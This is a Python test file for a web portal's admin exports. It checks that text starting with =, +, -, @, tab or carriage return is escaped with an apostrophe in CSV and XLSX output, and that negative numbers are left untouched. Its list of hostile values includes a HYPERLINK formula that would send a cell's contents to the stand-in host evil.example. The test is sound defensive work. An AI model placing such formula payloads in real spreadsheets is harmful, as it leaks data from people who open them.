"""Spreadsheets never carry formulas (issue 15, defect 12): a text a staff
user entered or imported that a spreadsheet would run (= + - @) comes out of
every admin export, CSV and XLSX, with a leading apostrophe, as the
portal's own exports have it; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from import_export.formats import base_formats
from openpyxl import load_workbook

from cchc_portal.spreadsheets import SpreadsheetResource, formula_safe
from commitments.organisation.models import Head, HeadPosition
from procedures.models import Procedure
from scoring.models import AdjustmentRule
from tests.factories import UnitFactory
from tests.scoring.conftest import framework  # noqa: F401 - fixture

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Xã Hưng Đạo", "Xã Hưng Đạo"),
        ("a=b", "a=b"),
        ("", ""),
        (-1, -1),
        (Decimal("-2.50"), Decimal("-2.50")),
        (None, None),
    ],
)
def test_formula_safe(value, expected):
    assert formula_safe(value) == expected


def admin_export(client, path: str, format_index: str) -> bytes:
    url = f"/admin/{path}/export/"
    form = client.get(url).context["form"]
    data = {"format": format_index, "resource": "0"}
    data.update(
        {
            name: "on"
            for name in form.fields
            if name not in ("format", "resource", "export_items")
        }
    )
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:300]
    return response.content


def xlsx_cells(content: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row]


def csv_cells(content: bytes | str) -> list[str]:
    text = content if isinstance(content, str) else content.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text))
    return [cell for row in rows for cell in row]


@pytest.fixture
def hostile_rows(db):
    for n, text in enumerate(HOSTILE):
        unit = UnitFactory(code=f"X{n}", name=text)
        Head.objects.create(
            unit=unit,
            full_name=text,
            title=text,
            position=HeadPosition.HEAD,
            tenure_from="2024-01-01",
        )
        Procedure.objects.create(code=f"P{n}", name=text, field=text)


@pytest.mark.parametrize(
    "path", ["commitments/unit", "commitments/head", "procedures/procedure"]
)
@pytest.mark.parametrize(
    ("format_index", "read"), [("0", csv_cells), ("1", xlsx_cells)]
)
def test_admin_exports_escape_formulas(
    client, superuser, hostile_rows, path, format_index, read
):
    client.force_login(superuser)
    cells = read(admin_export(client, path, format_index))
    for text in HOSTILE:
        # openpyxl reads a CR back as written with lxml installed (pyHanko
        # brings it), as a LF without.
        assert {"'" + text, "'" + text.replace("\r", "\n")} & set(cells), (path, text)
    runnable = [
        cell
        for cell in cells
        if isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]
    assert runnable == []


class RuleResource(SpreadsheetResource):
    class Meta:
        model = AdjustmentRule
        fields = ("code", "title", "points_per_case")


@pytest.mark.parametrize("file_format", [base_formats.XLSX, base_formats.CSV])
def test_negative_numbers_stay_numbers(framework, file_format):  # noqa: F811
    AdjustmentRule.objects.create(
        framework=framework, code="-rule", title="=1+1", points_per_case=Decimal("-1")
    )
    binary = file_format is base_formats.XLSX
    # As the admin's export view asks: native types in binary formats.
    dataset = RuleResource().export(force_native_type=binary)
    content = file_format().export_data(dataset)
    if binary:
        code, title, points = xlsx_cells(content)[3:]
        assert points == -1
    else:
        code, title, points = csv_cells(content)[3:]
        # A number as the admin's language writes it ("-1,00"), not escaped.
        assert Decimal(points.replace(",", ".")) == -1
    assert (code, title) == ("'-rule", "'=1+1")
